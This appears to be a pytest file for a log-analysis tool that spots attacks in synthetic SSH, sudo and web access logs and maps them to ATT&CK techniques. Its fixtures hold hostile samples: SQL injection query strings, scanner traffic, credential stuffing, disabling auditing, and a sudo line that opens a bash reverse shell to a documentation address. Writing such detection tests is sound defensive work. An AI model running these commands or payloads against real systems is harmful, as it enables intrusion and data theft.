"""Whole runs: queries and tools in access logs, crowds that try passwords, grave acts alone."""

# ruff: noqa: E501 - rows of data read better long than broken

import json
import random
from datetime import datetime, timedelta

import pytest

START = datetime(2026, 3, 2, 6)  # noqa: DTZ001 - logs of a host whose zone is UTC
HOURS, BROKEN = 4, 3 * 3600


def auth(attack=()):
    """A host on the internet: cron, people, guesses that never succeed; and what is given, (second, line)."""
    chance = random.Random(3)  # noqa: S311 - a fixed choice of noise
    rows = [(s, "CRON[4100]: (root) CMD (/usr/lib/sysstat/sa1 1 1)") for s in range(0, HOURS * 3600, 20)]
    for s in range(0, HOURS * 3600, 90):
        name, last = chance.choice(["admin", "test", "oracle", "git", "pi"]), chance.randint(1, 250)
        line = f"sshd[41]: Failed password for invalid user {name} from 203.0.113.{last} port {s + 1025} ssh2"
        rows.append((s + chance.randint(0, 60), line))
    for s in range(300, HOURS * 3600, 1800):
        rows.append(
            (s, "sshd[42]: Accepted publickey for deploy from 192.0.2.10 port 4000 ssh2: RSA SHA256:ab")
        )
        rows.append((s + 5, sudo("deploy", "/usr/bin/systemctl restart shop")))
    return stamped([*rows, *attack], "{:%b %e %H:%M:%S} host1 ")


def sudo(user, command):
    """What sudo logs."""
    return f"sudo[43]:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={command}"


def stamped(rows, head):
    """Lines in order of time."""
    return "".join(
        head.format(START + timedelta(seconds=s)) + line + "\n"
        for s, line in sorted(rows, key=lambda r: r[0])
    )


def ids(done):
    """The techniques of a JSON answer."""
    assert done.stderr == ""
    return {one["id"] for one in json.loads(done.stdout)["techniques"]}


TOOL = "sqlmap/1.8#stable (https://sqlmap.org)"


def pages(attack=()):
    """An access log with sizes and agents; and what is given: (second, client, path, code, size, agent)."""
    chance = random.Random(5)  # noqa: S311 - a fixed choice of noise
    rows = [
        (s, f"192.0.2.{chance.randint(1, 99)}", chance.choice(["/", "/cart", f"/items?id={s}"]), 200, chance.randint(900, 1400), "Mozilla/5.0")
        for s in range(0, HOURS * 3600, 5)
    ]  # fmt: skip
    # Banners that a scanner asks for, and injections that get the page as always, are every day's noise.
    rows += [
        (s, f"203.0.113.{s % 250 + 1}", "/.env", 404, 153, "zgrab/0.x") for s in range(0, HOURS * 3600, 240)
    ]
    rows += [(BROKEN, "203.0.113.9", "/items?id=1%27+or+1=1", 200, 1100, "curl/8")]
    return "".join(
        f'{who} - - [{START + timedelta(seconds=s):%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {code} {size} "-" "{agent}"\n'
        for s, who, path, code, size, agent in sorted([*rows, *attack], key=lambda r: r[0])
    )


LEAKED = [
    (BROKEN + i, "198.51.100.9", "/items?id=1%27%20UNION%20SELECT%20name,pass", 200, 90_000, "Mozilla/5.0")
    for i in range(5)
]
REFUSED = [(s, who, path, 403, 153, agent) for s, who, path, _, _, agent in LEAKED]
SWEPT = [(BROKEN + i, "198.51.100.9", f"/{i % 50}/x", 404, 153, TOOL) for i in range(200)]


@pytest.mark.parametrize(
    "attack,told", [([], set()), (LEAKED, {"T1190"}), (REFUSED, set()), (SWEPT, {"T1595.002"})]
)
def test_queries_and_tools_of_an_access_log(run, attack, told):
    """Injections in a query are told where the answer is odd, tools where they ask for much; noise is not."""
    done = run("attack", "--format", "json", access=pages(attack))
    assert ids(done) == told
    assert all(one["who"] == ["198.51.100.9"] for one in json.loads(done.stdout)["techniques"])


def crowd(won=0):
    """Names that are tried once each, from as many addresses; so many of them get in."""
    rows = []
    for i in range(240):
        rest = f"password for user{i} from 2001:db8::{i:x} port {i + 2000} ssh2"
        rows.append((BROKEN + 2 * i, f"sshd[60]: Failed {rest}"))
        if won and i % (240 // won) == 0:
            rows.append((BROKEN + 2 * i + 1, f"sshd[60]: Accepted {rest}"))
    return rows


def test_a_crowd_that_tries_passwords(run):
    """Two hundred addresses with a try each are credential stuffing; those that get in are valid accounts."""
    done = run("attack", "--format", "json", auth=auth(crowd(won=8)))
    assert ids(done) == {"T1110.004", "T1078"}
    found = {one["id"]: one for one in json.loads(done.stdout)["techniques"]}
    assert "2001:db8::0" in found["T1078"]["who"]
    assert ids(run("attack", "--format", "json", auth=auth(crowd()))) == {"T1110.004"}
    layer = json.loads(run("attack", "--format", "navigator").stdout)
    assert [one["techniqueID"] for one in layer["techniques"]] == ["T1110.004"]


AUDIT = (BROKEN, "systemd[1]: Stopped Security Auditing Service.")
REBOOT = [
    AUDIT,
    (BROKEN + 2, "systemd[1]: Reached target Shutdown."),
    (BROKEN + 40, "systemd[1]: Started Security Auditing Service."),
]


@pytest.mark.parametrize(
    "lines,severity",
    [
        ([AUDIT], "major"),
        (REBOOT, None),
        ([(BROKEN, "usermod[53]: add 'helper' to group 'sudo'")], "major"),
        ([(BROKEN, "usermod[53]: add 'helper' to group 'docker'")], None),
        ([(BROKEN, sudo("deploy", "/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"))], "critical"),
        ([(BROKEN, sudo("deploy", "/usr/bin/chmod -R g+s /srv/share"))], None),
    ],
)
def test_a_grave_act_is_an_incident_alone(run, lines, severity):
    """A lone grave line is an incident of its severity; a reboot and ordinary work are none."""
    found = json.loads(run("analyze", "--format", "json", auth=auth(lines)).stdout)["incidents"]
    assert [one["severity"] for one in found] == ([severity] if severity else [])


@pytest.mark.parametrize("columns", ["80", "200"])
def test_what_is_told_fits_the_terminal(run, monkeypatch, columns):
    """At 80 and at 200 columns no row is wider, and the new techniques are named."""
    monkeypatch.setitem(run.env, "COLUMNS", columns)
    shown = run("attack", access=pages(LEAKED + SWEPT), auth=auth(crowd(won=8))).stdout
    assert max(len(row) for row in shown.splitlines()) <= int(columns)
    assert all(id_ in shown for id_ in ("T1190", "T1595.002", "T1110.004", "T1078"))
